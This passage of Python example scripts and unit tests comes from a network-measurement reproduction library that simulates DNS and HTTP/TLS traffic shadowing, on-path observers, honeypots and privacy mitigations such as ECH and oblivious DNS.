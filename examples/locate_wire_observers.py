#!/usr/bin/env python3
"""Locate on-path HTTP/TLS observers hop by hop (Section 5.2 workflow).

Runs a web-heavy campaign, traceroutes every problematic path with varied
IP TTLs, and characterizes the observers: where they sit, which networks
they belong to, what they emit, and what their open ports reveal.

Run:  python examples/locate_wire_observers.py
"""

from collections import Counter

from repro import Experiment, ExperimentConfig
from repro.analysis.landscape import destination_share, observer_location_table
from repro.analysis.origins import observer_as_groups, observer_country_counts, top_observer_ases
from repro.analysis.payloads import incentive_report
from repro.analysis.ports import observer_port_audit
from repro.analysis.report import percent, render_table
from repro.analysis.temporal import web_delay_cdfs
from repro.simkit.units import DAY, HOUR


def main() -> None:
    config = ExperimentConfig(
        seed=20240402,
        web_site_count=160,
        web_destination_count=64,
        web_vps_per_destination=14,
        phase2_paths_per_destination=16,
    )
    print("Spreading HTTP/TLS decoys and tracerouting problematic paths...")
    result = Experiment(config).run()

    table = observer_location_table(result.locations)
    print()
    rows = []
    for protocol in ("http", "tls"):
        hops = table.get(protocol, {})
        rows.append((
            protocol.upper(),
            percent(sum(v for k, v in hops.items() if k <= 3) / 100),
            percent(sum(v for k, v in hops.items() if 4 <= k <= 6) / 100),
            percent(sum(v for k, v in hops.items() if 7 <= k <= 9) / 100),
            percent(hops.get(10, 0.0) / 100),
        ))
    print(render_table(
        ("decoy", "hops 1-3", "hops 4-6", "hops 7-9", "destination"),
        rows,
        title="Normalized observer locations (cf. Table 2)",
    ))
    print(f"\nHTTP observers on the wire: "
          f"{percent(1 - destination_share(result.locations, 'http'))} "
          "(paper: 97.7%)")
    print(f"TLS observers at destination: "
          f"{percent(destination_share(result.locations, 'tls'))} (paper: 65%)")

    print()
    observer_rows = top_observer_ases(result.locations)
    print(render_table(
        ("decoy", "AS", "network", "observer IPs", "share"),
        [(row.protocol.upper(), f"AS{row.asn}", row.as_name[:38],
          row.observers, percent(row.share)) for row in observer_rows],
        title="Top observer networks (cf. Table 3)",
    ))

    countries = observer_country_counts(result.locations)
    total = sum(countries.values())
    if total:
        cn_share = countries.get("CN", 0) / total
        print(f"\nObserver IPs revealed by ICMP: {total}; "
              f"{percent(cn_share)} in CN (paper: 79%)")

    print()
    groups = observer_as_groups(result.locations, result.phase1.events,
                                result.eco.directory)
    print(render_table(
        ("observer AS", "paths", "share", "same-AS origins", "top combo"),
        [
            (f"AS{group.asn} {group.as_name[:24]}", group.paths,
             percent(group.share_of_all_paths),
             percent(group.same_as_origin_share),
             max(group.combo_shares, key=group.combo_shares.get)
             if group.combo_shares else "-")
            for group in groups
        ],
        title="Observer-AS behaviour (Section 5.2)",
    ))
    top5_share = sum(group.share_of_all_paths for group in groups[:5])
    print(f"\nTop 5 observer ASes account for {percent(top5_share)} of "
          "HTTP/TLS shadowing (paper: >80%)")

    cdfs = web_delay_cdfs(result.phase1.events)
    print()
    for protocol, cdf in sorted(cdfs.items()):
        if len(cdf):
            print(f"{protocol.upper()} decoy data: {percent(cdf.at(DAY))} of "
                  f"unsolicited requests within 1 day "
                  f"({len(cdf)} requests) — shorter retention than DNS")

    audit = observer_port_audit(result.locations, result.eco.topology)
    print()
    print(f"Port scan of {audit['observers_scanned']} observer addresses: "
          f"{percent(audit['silent_fraction'])} expose no open ports "
          f"(paper: 92%); most common open port: "
          f"{audit['top_open_port']} (paper: 179/BGP)")

    report = incentive_report(result.phase1.events, result.eco.blocklist)
    print()
    print(f"Unsolicited HTTP(S) payloads: {percent(report.enumeration_share)} "
          f"path enumeration, {percent(report.exploit_share)} exploit code "
          "(paper: ~95% enumeration, no exploits)")
    print("Most-probed honeypot paths:",
          ", ".join(path for path, _ in report.top_paths[:5]))


if __name__ == "__main__":
    main()

#!/usr/bin/env python3
"""Audit DNS resolvers for traffic shadowing (Section 5.1 workflow).

This is the workload the paper's introduction motivates: a user (or
resolver operator) wants to know whether query names sent to public
resolvers silently re-appear later.  The script runs a DNS-only campaign,
then walks through the Section 5.1 analyses: per-resolver susceptibility,
retention CDFs, protocol combinations, origin networks, blocklist rates,
and the two case studies (Yandex, 114DNS anycast).

Run:  python examples/dns_resolver_audit.py
"""

from repro import Experiment, ExperimentConfig
from repro.analysis.combos import decoy_breakdown, http_https_share, shadowed_share
from repro.analysis.origins import origin_as_distribution, origin_blocklist_rate
from repro.analysis.report import percent, render_table
from repro.analysis.temporal import dns_delay_cdfs, other_resolver_cdf, reappearance_share
from repro.datasets.resolvers import RESOLVER_H_NAMES
from repro.simkit.units import DAY, HOUR, MINUTE


def main() -> None:
    # DNS-focused campaign: skip the web pool entirely.
    config = ExperimentConfig(
        seed=20240401,
        web_destination_count=1,
        web_vps_per_destination=1,
        phase2_paths_per_destination=8,
    )
    print("Auditing 36 DNS destinations from the full VP platform...")
    result = Experiment(config).run()
    events = result.phase1.events

    print()
    print(render_table(
        ("resolver", "decoys shadowed", "drew HTTP/HTTPS"),
        [
            (name,
             percent(shadowed_share(result.ledger, events, name)),
             percent(http_https_share(result.ledger, events, name)))
            for name in RESOLVER_H_NAMES
        ],
        title="Resolver_h susceptibility (cf. Figure 5)",
    ))

    cdf_other = other_resolver_cdf(events)
    print()
    print(f"Resolvers beyond Resolver_h: {len(cdf_other)} unsolicited requests, "
          f"{percent(cdf_other.at(MINUTE))} within one minute (paper: 95%) — "
          "benign retry behaviour, not shadowing.")

    print()
    print("Case study I — Yandex:")
    yandex_cdf = dns_delay_cdfs(events)["Yandex"]
    if len(yandex_cdf):
        print(f"  retention: median {yandex_cdf.quantile(0.5) / DAY:.1f} days; "
              f"{percent(1 - yandex_cdf.at(10 * DAY))} of unsolicited requests "
              "arrive more than 10 days after the decoy")
    print(f"  {percent(reappearance_share(events, 'Yandex', after=5 * DAY))} of "
          "shadowed names re-appear in HTTP(S) probes 5+ days later")

    print()
    print("Case study II — 114DNS anycast split:")
    cn_vps = problematic = 0
    global_vps = global_problematic = 0
    problematic_vps = {
        event.decoy.vp_id
        for event in events
        if event.decoy.destination_name == "114DNS"
    }
    for record in result.ledger.records(phase=1):
        if record.destination_name != "114DNS" or record.protocol != "dns":
            continue
        if record.vp_country == "CN":
            cn_vps += 1
            problematic += record.vp_id in problematic_vps
        else:
            global_vps += 1
            global_problematic += record.vp_id in problematic_vps
    if cn_vps and global_vps:
        print(f"  CN vantage points:     {percent(problematic / cn_vps)} problematic "
              "(reach the CN anycast instances, which shadow)")
        print(f"  global vantage points: {percent(global_problematic / global_vps)} "
              "problematic (reach the US instances, which do not)")

    print()
    rows = origin_as_distribution(events, result.eco.directory, top_n=3)
    print(render_table(
        ("resolver", "request", "origin AS", "network", "share"),
        [(row.destination_name, row.request_protocol, f"AS{row.asn}",
          row.as_name[:34], percent(row.share)) for row in rows],
        title="Where unsolicited requests originate (cf. Figure 6)",
    ))

    blocklist = result.eco.blocklist
    print()
    print("Origin reputation (synthetic Spamhaus):")
    for request_protocol, paper in (("dns", "5.2%"), ("http", "57%"), ("https", "72%")):
        rate = origin_blocklist_rate(events, blocklist, request_protocol, "dns")
        print(f"  {request_protocol.upper():5s} origins blocklisted: "
              f"{percent(rate)} (paper: {paper})")


if __name__ == "__main__":
    main()

#!/usr/bin/env python3
"""Section 6 mitigations, demonstrated on the measurement substrate.

Three scenes:

1. A Chinanet-style DPI box sniffs plain TLS decoys — and then the same
   decoys with Encrypted Client Hello, which hide the experiment domain
   behind the provider's public name.
2. The same ECH hellos reach the terminating provider, which decrypts and
   sees everything — encryption does not stop destination collection.
3. An oblivious DNS relay splits who-asked from what-was-asked, breaking
   the client/name correlation that makes sniffed QNAMEs a tracking tool.

Run:  python examples/mitigations_demo.py
"""

import random

from repro.analysis.plot import ascii_bars
from repro.mitigations import (
    EchConfig,
    ObliviousDnsProxy,
    build_ech_client_hello,
    seal_query,
)
from repro.mitigations.ech import terminate
from repro.net.packet import Packet
from repro.net.path import Hop
from repro.observers.onpath import WireSniffer
from repro.protocols.tls import ClientHello, wrap_handshake

ZONE = "www.experiment.domain"
DECOYS = 100


class RecordingExhibitor:
    """Counts what the DPI box manages to hand to its shadow pipeline."""

    def __init__(self):
        self.captured = []

    def observe(self, domain, observed_from):
        self.captured.append(domain)


def sniff_decoys(use_ech: bool, config: EchConfig) -> RecordingExhibitor:
    rng = random.Random(42)
    exhibitor = RecordingExhibitor()
    hop = Hop(address="100.64.9.9", asn=4134, country="CN")
    sniffer = WireSniffer(hop, ("tls",), exhibitor, ZONE)
    for index in range(DECOYS):
        inner = f"decoy{index:03d}-0001.{ZONE}"
        hello = (build_ech_client_hello(inner, config, rng) if use_ech
                 else ClientHello(server_name=inner,
                                  random=bytes(rng.randrange(256)
                                               for _ in range(32))))
        packet = Packet.tcp("100.96.0.1", "198.18.0.1", 64, 40000, 443,
                            wrap_handshake(hello.encode()))
        sniffer.tap(3, hop, packet)
    return exhibitor


def main() -> None:
    config = EchConfig(config_id=3, public_name="cdn-frontend.example",
                       secret=b"a-sixteen-byte-k")

    plain = sniff_decoys(use_ech=False, config=config)
    ech = sniff_decoys(use_ech=True, config=config)
    print("Scene 1 — on-path DPI vs TLS decoys")
    print(ascii_bars({
        "plain SNI captured": len(plain.captured) / DECOYS,
        "ECH captured": len(ech.captured) / DECOYS,
    }, width=30))

    rng = random.Random(43)
    recovered = 0
    for index in range(DECOYS):
        inner = f"decoy{index:03d}-0001.{ZONE}"
        hello = build_ech_client_hello(inner, config, rng)
        decoded = ClientHello.decode(hello.encode())
        if terminate(decoded, config) == inner:
            recovered += 1
    print("\nScene 2 — the terminating provider opens ECH")
    print(f"  inner names recovered by the key holder: {recovered}/{DECOYS}")
    print("  -> encryption hides data on the wire, not from the destination;")
    print("     for DNS, the resolver still decodes and sees everything.")

    proxy = ObliviousDnsProxy(
        "100.88.250.1", key_id=9, target_secret=b"a-sixteen-byte-k",
        resolve=lambda proxy_address, name: "203.0.113.11",
    )
    rng = random.Random(44)
    for index in range(DECOYS):
        sealed = seal_query(f"q{index:03d}-0001.{ZONE}", key_id=9,
                            target_secret=b"a-sixteen-byte-k", rng=rng)
        proxy.relay(f"100.96.1.{index % 250 + 1}", sealed)
    print("\nScene 3 — oblivious DNS splits origin from content")
    print(f"  queries relayed:                {len(proxy.proxy_log)}")
    clear_names_at_proxy = sum(
        1 for entry in proxy.proxy_log
        if ZONE.encode() in entry.sealed_bytes
    )
    client_addresses_at_target = sum(
        1 for entry in proxy.target_log
        if entry.proxy_address != proxy.proxy_address
    )
    print(f"  clear-text names at the proxy:  {clear_names_at_proxy}")
    print(f"  client addresses at the target: {client_addresses_at_target}")
    print(f"  client<->name correlation possible: {proxy.correlation_possible()}")


if __name__ == "__main__":
    main()

#!/usr/bin/env python3
"""Compose the library's primitives by hand: plant a custom exhibitor and
catch it with the measurement pipeline.

Rather than using the prebuilt paper ecosystem, this example wires a tiny
world from first principles:

1. one client path crossing a router that hosts a FireEye-style security
   appliance (it records HTTP Host values and schedules delayed scans),
2. a decoy factory and honeypot deployment,
3. the correlator, which recovers the exhibitor's behaviour from the
   honeypot log alone.

This is the template for experimenting with *new* shadowing behaviours —
swap the policy and see what the methodology would observe.

Run:  python examples/custom_exhibitor.py
"""

import random

from repro.core.correlate import Correlator, DecoyLedger, DecoyRecord
from repro.core.decoy import DecoyFactory
from repro.core.identifier import DecoyIdentity
from repro.honeypot.deployment import HoneypotDeployment
from repro.intel.blocklist import Blocklist
from repro.intel.directory import IpDirectory
from repro.net.path import Hop, Path
from repro.observers import (
    AddressAllocator,
    OriginGroup,
    OriginPool,
    ShadowExhibitor,
    ShadowPolicy,
    UnsolicitedEmitter,
    WireSniffer,
)
from repro.simkit.distributions import Empirical, Uniform
from repro.simkit.events import Simulator
from repro.simkit.units import DAY, HOUR, MINUTE, format_duration

ZONE = "www.experiment.domain"


def main() -> None:
    sim = Simulator()
    deployment = HoneypotDeployment(zone=ZONE)
    directory = IpDirectory()
    blocklist = Blocklist()
    rng = random.Random(7)

    # --- the exhibitor under study: a security appliance that records Host
    # headers and schedules scans from its vendor's cloud 1-6 hours later.
    policy = ShadowPolicy(
        name="appliance.fireeye-style",
        delay=Uniform(1 * HOUR, 6 * HOUR),
        uses=Empirical([(1, 2, 0.7), (3, 4, 0.3)]),
        protocol_weights={"http": 0.7, "dns": 0.3},
        origin_pool=OriginPool(
            name="vendor-cloud",
            groups=[OriginGroup(asn=394735, country="US", weight=1.0,
                                blocklist_rate=0.5)],
            allocator=AddressAllocator(),
            directory=directory,
            blocklist=blocklist,
            rng=rng,
        ),
        observe_probability=1.0,
    )
    emitter = UnsolicitedEmitter(deployment, sim, random.Random(8))
    exhibitor = ShadowExhibitor(policy, sim, emitter, random.Random(9))

    # --- a 6-hop path whose 3rd hop hosts the appliance.
    hops = [
        Hop("10.1.0.1", asn=65001, country="US"),
        Hop("10.1.0.2", asn=65001, country="US"),
        Hop("10.1.0.3", asn=65002, country="US"),          # the appliance
        Hop("10.1.0.4", asn=65003, country="US"),
        Hop("10.1.0.5", asn=65003, country="US"),
        Hop("93.184.216.34", asn=15133, country="US", is_destination=True),
    ]
    path = Path(hops)
    sniffer = WireSniffer(hops[2], protocols=("http",), exhibitor=exhibitor,
                          zone=ZONE)
    path.add_tap(3, sniffer.tap)

    # --- send HTTP decoys down the path, one per minute.
    factory = DecoyFactory(ZONE, random.Random(10))
    ledger = DecoyLedger()
    for index in range(5):
        send_at = index * MINUTE

        def send(index=index, send_at=send_at):
            identity = DecoyIdentity(
                sent_at=int(send_at), vp_address="100.96.5.1",
                dst_address="93.184.216.34", ttl=64, sequence=index,
            )
            decoy = factory.build(identity, "http")
            ledger.register(DecoyRecord(
                identity=identity, domain=decoy.domain, protocol="http",
                vp_id="lab-vp", vp_country="US", vp_province=None,
                destination_address="93.184.216.34",
                destination_name="example-site", destination_kind="web",
                destination_country="US", instance_country="US",
                path_length=path.length, sent_at=send_at, phase=1,
            ))
            path.transit(decoy.packet)

        sim.schedule_at(send_at, send)

    sim.run(until=2 * DAY)

    # --- recover the exhibitor from the honeypot log alone.
    correlation = Correlator(ledger, ZONE).correlate(deployment.log)
    print(f"Decoys sent:              5")
    print(f"Appliance captured:       {sniffer.domains_captured} Host values")
    print(f"Unsolicited requests:     {len(correlation.events)}")
    deltas = sorted(event.delta for event in correlation.events)
    if deltas:
        print(f"Observed retention:       {format_duration(deltas[0])} .. "
              f"{format_duration(deltas[-1])} (planted: 1h-6h)")
    combos = {}
    for event in correlation.events:
        combos[event.combo] = combos.get(event.combo, 0) + 1
    print(f"Protocol combinations:    {combos}")
    origins = {event.origin_address for event in correlation.events}
    asns = {directory.asn_of(address) for address in origins}
    print(f"Origin networks:          {sorted(str(asn) for asn in asns)} "
          "(planted: AS394735)")
    print(f"Blocklisted origins:      {blocklist.hit_rate(origins):.0%} "
          "(planted: ~50%)")


if __name__ == "__main__":
    main()

#!/usr/bin/env python3
"""Quickstart: run a small traffic-shadowing measurement end to end.

Builds the simulated Internet (VPN platform, topology, resolvers, on-path
observers, honeypots), spreads DNS/HTTP/TLS decoys (Phase I), tracerouting
problematic paths (Phase II), and prints the headline findings.

Run:  python examples/quickstart.py [seed]
"""

import sys

from repro import Experiment, ExperimentConfig
from repro.analysis import (
    dns_delay_cdfs,
    multi_use_stats,
    observer_location_table,
    top_observer_ases,
)
from repro.analysis.landscape import destination_ratio_summary, problematic_path_ratios
from repro.analysis.report import percent, render_table
from repro.simkit.units import DAY, HOUR, MINUTE, format_duration


def main() -> None:
    seed = int(sys.argv[1]) if len(sys.argv) > 1 else 20240301
    config = ExperimentConfig(seed=seed)
    print(f"Running campaign (seed={seed}, ~{config.vp_scale:.0%} of paper scale)...")
    result = Experiment(config).run()

    platform_rows = result.eco.platform.summary()
    print()
    print(render_table(
        ("segment", "providers", "VPs", "ASes", "locations"),
        [(row.label, row.providers, row.vps, row.ases, row.countries)
         for row in platform_rows],
        title="Measurement platform (cf. Table 1)",
    ))

    print()
    print(f"Decoys sent:            {len(result.ledger.records(phase=1)):,}")
    print(f"Honeypot log entries:   {len(result.log):,}")
    print(f"Unsolicited requests:   {len(result.phase1.events):,}")
    print(f"Problematic paths:      {len(result.problematic_path_keys()):,}")

    rows = problematic_path_ratios(result.ledger, result.phase1.events)
    summary = destination_ratio_summary(rows, "dns")
    worst = sorted(summary.items(), key=lambda item: -item[1])[:5]
    print()
    print(render_table(
        ("destination", "problematic paths"),
        [(name, percent(ratio)) for name, ratio in worst],
        title="Most-susceptible DNS destinations (cf. Figure 3)",
    ))

    cdfs = dns_delay_cdfs(result.phase1.events)
    print()
    print(render_table(
        ("resolver", "n", "<1min", "<1h", "<1day", "<10days"),
        [
            (name, len(cdf), percent(cdf.at(MINUTE)), percent(cdf.at(HOUR)),
             percent(cdf.at(DAY)), percent(cdf.at(10 * DAY)))
            for name, cdf in cdfs.items() if len(cdf)
        ],
        title="Retention of DNS decoy data (cf. Figure 4)",
    ))
    from repro.analysis.plot import ascii_cdf
    print()
    print(ascii_cdf(
        {name: cdf for name, cdf in cdfs.items() if len(cdf)},
        thresholds=(MINUTE, HOUR, DAY, 10 * DAY),
        width=32,
        title="Figure 4 as curves:",
    ))

    stats = multi_use_stats(result.phase1.events)
    print()
    print(f"DNS decoys still producing >3 unsolicited requests an hour after "
          f"emission: {percent(stats.share_more_than_3)} (paper: 51%)")

    table = observer_location_table(result.locations)
    print()
    print(render_table(
        ("protocol", "hops 1-3", "hops 4-6", "hops 7-9", "destination"),
        [
            (
                protocol,
                percent(sum(share for hop, share in hops.items() if hop <= 3) / 100),
                percent(sum(share for hop, share in hops.items() if 4 <= hop <= 6) / 100),
                percent(sum(share for hop, share in hops.items() if 7 <= hop <= 9) / 100),
                percent(hops.get(10, 0.0) / 100),
            )
            for protocol, hops in sorted(table.items())
        ],
        title="Where observers sit on the path (cf. Table 2)",
    ))

    observer_rows = top_observer_ases(result.locations)
    print()
    print(render_table(
        ("protocol", "AS", "network", "observers", "share"),
        [(row.protocol, f"AS{row.asn}", row.as_name[:40], row.observers,
          percent(row.share)) for row in observer_rows],
        title="Top observer networks (cf. Table 3)",
    ))


if __name__ == "__main__":
    main()

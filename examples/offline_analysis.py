#!/usr/bin/env python3
"""Run once, analyze forever: the export/reload workflow.

A field deployment separates collection from analysis — honeypot logs
accumulate for months, analysts work offline.  This example runs a small
campaign, exports the result bundle to disk, reloads it in a fresh
analysis context, and shows that every paper analysis works identically
on the reloaded data, plus a geographic heat map of the landscape.

Run:  python examples/offline_analysis.py [bundle-dir]
"""

import pathlib
import sys
import tempfile

from repro import Experiment, ExperimentConfig
from repro.analysis.geography import (
    country_destination_matrix,
    regional_ratios,
    render_heat_matrix,
)
from repro.analysis.paperreport import full_report
from repro.analysis.report import percent
from repro.core.persist import export_result, load_bundle


def main() -> None:
    if len(sys.argv) > 1:
        bundle_dir = pathlib.Path(sys.argv[1])
    else:
        bundle_dir = pathlib.Path(tempfile.mkdtemp(prefix="shadowing-bundle-"))

    print("1. Running the campaign...")
    result = Experiment(ExperimentConfig.tiny(seed=20240404)).run()
    print(f"   {len(result.ledger):,} decoys, {len(result.log):,} log entries")

    print(f"2. Exporting the bundle to {bundle_dir} ...")
    export_result(result, bundle_dir)
    files = sorted(path.name for path in bundle_dir.iterdir())
    print(f"   files: {', '.join(files)}")

    print("3. Reloading in a fresh context and re-correlating...")
    bundle = load_bundle(bundle_dir)
    assert len(bundle.phase1.events) == len(result.phase1.events)
    print(f"   {len(bundle.phase1.events):,} unsolicited requests recovered "
          "from disk — identical to the live run")

    print("4. Analyses work unchanged on the reloaded bundle:")
    live = full_report(result)
    reloaded = full_report(bundle)
    print(f"   full paper report identical: {live == reloaded}")

    print("\n5. Geographic landscape (Figure 3 as a heat map):")
    cells = country_destination_matrix(bundle.ledger, bundle.phase1.events)
    print(render_heat_matrix(cells, max_countries=12))

    print("\n   By world region:")
    for region, ratio in sorted(regional_ratios(cells).items(),
                                key=lambda item: -item[1]):
        print(f"   {region:<15} {percent(ratio)}")


if __name__ == "__main__":
    main()

"""Tests for seeded RNG routing and delay distributions."""

import random

import pytest

from repro.simkit import (
    Constant,
    DAY,
    Empirical,
    Exponential,
    LogNormal,
    Mixture,
    RandomRouter,
    Uniform,
    format_duration,
)


class TestRandomRouter:
    def test_same_seed_same_stream_values(self):
        first = RandomRouter(7).stream("topology")
        second = RandomRouter(7).stream("topology")
        assert [first.random() for _ in range(5)] == [second.random() for _ in range(5)]

    def test_different_names_give_independent_streams(self):
        router = RandomRouter(7)
        a = [router.stream("a").random() for _ in range(5)]
        b = [router.stream("b").random() for _ in range(5)]
        assert a != b

    def test_stream_is_insensitive_to_creation_order(self):
        forward = RandomRouter(3)
        forward.stream("x")
        x_after_y = RandomRouter(3)
        x_after_y.stream("y")
        assert forward.stream("x").random() == x_after_y.stream("x").random()

    def test_stream_is_cached(self):
        router = RandomRouter(1)
        assert router.stream("same") is router.stream("same")

    def test_fork_gives_independent_namespace(self):
        router = RandomRouter(5)
        child = router.fork("observer")
        assert child.stream("x").random() != router.stream("x").random()

    def test_fork_is_deterministic(self):
        a = RandomRouter(5).fork("observer").stream("x").random()
        b = RandomRouter(5).fork("observer").stream("x").random()
        assert a == b


class TestDistributions:
    def setup_method(self):
        self.rng = random.Random(42)

    def test_constant_always_returns_value(self):
        dist = Constant(3.5)
        assert dist.sample_many(self.rng, 10) == [3.5] * 10

    def test_constant_rejects_negative(self):
        with pytest.raises(ValueError):
            Constant(-1)

    def test_uniform_stays_in_bounds(self):
        dist = Uniform(10, 20)
        for value in dist.sample_many(self.rng, 200):
            assert 10 <= value <= 20

    def test_uniform_rejects_inverted_bounds(self):
        with pytest.raises(ValueError):
            Uniform(5, 1)

    def test_exponential_mean_roughly_matches(self):
        dist = Exponential(mean=100.0)
        samples = dist.sample_many(self.rng, 5000)
        mean = sum(samples) / len(samples)
        assert 85 < mean < 115

    def test_exponential_rejects_nonpositive_mean(self):
        with pytest.raises(ValueError):
            Exponential(0)

    def test_lognormal_median_roughly_matches(self):
        dist = LogNormal(median=2 * DAY, sigma=0.5)
        samples = sorted(dist.sample_many(self.rng, 2001))
        median = samples[1000]
        assert 1.5 * DAY < median < 2.7 * DAY

    def test_lognormal_rejects_bad_params(self):
        with pytest.raises(ValueError):
            LogNormal(median=0, sigma=1)
        with pytest.raises(ValueError):
            LogNormal(median=10, sigma=0)

    def test_mixture_uses_all_components(self):
        dist = Mixture([(0.5, Constant(1.0)), (0.5, Constant(100.0))])
        values = set(dist.sample_many(self.rng, 200))
        assert values == {1.0, 100.0}

    def test_mixture_respects_heavy_weighting(self):
        dist = Mixture([(0.95, Constant(1.0)), (0.05, Constant(100.0))])
        samples = dist.sample_many(self.rng, 2000)
        share_low = sum(1 for value in samples if value == 1.0) / len(samples)
        assert share_low > 0.9

    def test_mixture_rejects_empty_and_zero_weights(self):
        with pytest.raises(ValueError):
            Mixture([])
        with pytest.raises(ValueError):
            Mixture([(0.0, Constant(1.0))])

    def test_empirical_draws_within_buckets(self):
        dist = Empirical([(0, 60, 0.5), (3600, 7200, 0.5)])
        for value in dist.sample_many(self.rng, 500):
            assert (0 <= value <= 60) or (3600 <= value <= 7200)

    def test_empirical_rejects_bad_buckets(self):
        with pytest.raises(ValueError):
            Empirical([])
        with pytest.raises(ValueError):
            Empirical([(10, 5, 1.0)])

    def test_sample_many_rejects_negative_count(self):
        with pytest.raises(ValueError):
            Constant(1.0).sample_many(self.rng, -1)


class TestFormatDuration:
    def test_seconds(self):
        assert format_duration(5) == "5.0s"

    def test_minutes(self):
        assert format_duration(90) == "1.5m"

    def test_hours(self):
        assert format_duration(7200) == "2.0h"

    def test_days(self):
        assert format_duration(10 * DAY) == "10.0d"

    def test_negative_duration(self):
        assert format_duration(-90) == "-1.5m"

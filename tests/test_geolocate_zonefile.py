"""Tests for VP geolocation and zone-file configuration."""

import random

import pytest

from repro.honeypot.logstore import LogStore
from repro.honeypot.zonefile import ZoneFileError, parse_zone, server_from_zonefile
from repro.intel.directory import IpDirectory
from repro.protocols.dns import DnsMessage, make_query
from repro.simkit.rng import RandomRouter
from repro.vpn.geolocate import (
    advertised_skew,
    geolocate_vps,
    inject_advertised_locations,
)
from repro.vpn.platform import VpnPlatform

ZONE_TEXT = """\
; experiment zone
$ORIGIN www.experiment.domain.
$TTL 3600
@    IN SOA ns1.experiment.domain. hostmaster.experiment.domain. (
             2024030101 7200 3600 1209600 300 )
@    IN NS  ns1.experiment.domain.
ns1  IN A   203.0.113.10
*    IN A   203.0.113.11
*    IN A   203.0.113.21
"""


class TestZoneFile:
    def test_parse_full_zone(self):
        zone = parse_zone(ZONE_TEXT)
        assert zone.origin == "www.experiment.domain"
        assert zone.default_ttl == 3600
        assert zone.wildcard_addresses == ["203.0.113.11", "203.0.113.21"]
        assert zone.ns_names == ["ns1.experiment.domain"]
        assert zone.soa.split()[2] == "2024030101"
        assert ("ns1.www.experiment.domain", "203.0.113.10") in zone.static_a

    def test_comments_ignored(self):
        zone = parse_zone("$ORIGIN z.example.\n; nothing\n* IN A 1.2.3.4 ; tail\n")
        assert zone.wildcard_addresses == ["1.2.3.4"]

    def test_ttl_column_tolerated(self):
        zone = parse_zone("$ORIGIN z.example.\n* 600 IN A 1.2.3.4\n")
        assert zone.wildcard_addresses == ["1.2.3.4"]

    def test_rejects_records_before_origin(self):
        with pytest.raises(ZoneFileError):
            parse_zone("* IN A 1.2.3.4\n")

    def test_rejects_bad_address(self):
        with pytest.raises(ZoneFileError):
            parse_zone("$ORIGIN z.example.\n* IN A 1.2.3.999\n")

    def test_rejects_unsupported_type(self):
        with pytest.raises(ZoneFileError):
            parse_zone("$ORIGIN z.example.\n@ IN MX 10 mail.z.example.\n")

    def test_rejects_unbalanced_parentheses(self):
        with pytest.raises(ZoneFileError):
            parse_zone("$ORIGIN z.example.\n@ IN SOA a. b. ( 1 2 3 4 5\n")

    def test_server_from_zonefile_answers_wildcard(self):
        log = LogStore()
        server = server_from_zonefile(ZONE_TEXT, log, site="US")
        query = make_query("abc123-0001.www.experiment.domain", txid=5)
        response = DnsMessage.decode(server.handle_query(query.encode(), "9.9.9.9", 1.0))
        assert response.answers[0].rdata in ("203.0.113.11", "203.0.113.21")
        assert response.answers[0].ttl == 3600
        assert len(log) == 1

    def test_server_requires_wildcard(self):
        with pytest.raises(ZoneFileError):
            server_from_zonefile("$ORIGIN z.example.\n@ IN A 1.2.3.4\n",
                                 LogStore(), site="US")


class TestGeolocation:
    def make_platform(self):
        router = RandomRouter(42)
        platform = VpnPlatform(router, vp_scale=0.01)
        directory = IpDirectory()
        for vp in platform.vantage_points:
            directory.register(vp.address, vp.asn, vp.country, role="vp")
        return platform, directory

    def test_observed_country_matches_directory(self):
        platform, directory = self.make_platform()
        results = geolocate_vps(platform.vantage_points, "203.0.113.11",
                                directory, random.Random(1))
        assert len(results) == len(platform.vantage_points)
        by_id = {vp.vp_id: vp for vp in platform.vantage_points}
        for result in results:
            assert result.observed_country == by_id[result.vp_id].country
            assert result.observed_asn == by_id[result.vp_id].asn

    def test_skew_detection(self):
        platform, directory = self.make_platform()
        rng = random.Random(2)
        advertised = inject_advertised_locations(platform.vantage_points, rng,
                                                 skew_fraction=0.25)
        results = geolocate_vps(platform.vantage_points, "203.0.113.11",
                                directory, random.Random(3),
                                advertised=advertised)
        skew = advertised_skew(results)
        assert 0.05 < skew < 0.5

    def test_truthful_advertising_has_zero_skew(self):
        platform, directory = self.make_platform()
        advertised = inject_advertised_locations(
            platform.vantage_points, random.Random(2), skew_fraction=0.0,
        )
        results = geolocate_vps(platform.vantage_points, "203.0.113.11",
                                directory, random.Random(3),
                                advertised=advertised)
        assert advertised_skew(results) == 0.0

    def test_no_advertised_locations_skew_zero(self):
        platform, directory = self.make_platform()
        results = geolocate_vps(platform.vantage_points, "203.0.113.11",
                                directory, random.Random(3))
        assert advertised_skew(results) == 0.0
        assert all(result.advertised_matches is None for result in results)

    def test_skew_fraction_validated(self):
        platform, _ = self.make_platform()
        with pytest.raises(ValueError):
            inject_advertised_locations(platform.vantage_points,
                                        random.Random(1), skew_fraction=1.5)

"""Tests for the analysis layer, on both synthetic events and a real run."""

import pytest

from repro.analysis.combos import (
    LATENCY_BUCKETS,
    bucket_of,
    decoy_breakdown,
    http_https_share,
    shadowed_share,
)
from repro.analysis.landscape import (
    destination_ratio_summary,
    destination_share,
    observer_location_table,
    problematic_path_ratios,
    vp_country_ratio_summary,
)
from repro.analysis.origins import (
    observer_as_groups,
    observer_country_counts,
    origin_as_distribution,
    origin_blocklist_rate,
    top_observer_ases,
)
from repro.analysis.payloads import incentive_report
from repro.analysis.ports import observer_port_audit
from repro.analysis.report import percent, render_table
from repro.analysis.temporal import (
    Cdf,
    dns_delay_cdfs,
    multi_use_stats,
    other_resolver_cdf,
    reappearance_share,
    web_delay_cdfs,
)
from repro.core.config import ExperimentConfig
from repro.core.experiment import Experiment
from repro.simkit.units import DAY, HOUR, MINUTE


@pytest.fixture(scope="module")
def result():
    return Experiment(ExperimentConfig.tiny(seed=20240301)).run()


class TestCdf:
    def test_at(self):
        cdf = Cdf.from_values([1.0, 2.0, 3.0, 4.0])
        assert cdf.at(0.5) == 0.0
        assert cdf.at(2.0) == 0.5
        assert cdf.at(10.0) == 1.0

    def test_empty(self):
        assert Cdf.from_values([]).at(100) == 0.0
        with pytest.raises(ValueError):
            Cdf.from_values([]).quantile(0.5)

    def test_quantile(self):
        cdf = Cdf.from_values(range(100))
        assert cdf.quantile(0.5) == 50
        with pytest.raises(ValueError):
            cdf.quantile(1.5)

    def test_series_monotone(self):
        cdf = Cdf.from_values([5, 50, 500, 5000])
        series = cdf.series([1, 10, 100, 1000, 10000])
        fractions = [fraction for _, fraction in series]
        assert fractions == sorted(fractions)
        assert fractions[-1] == 1.0


class TestBuckets:
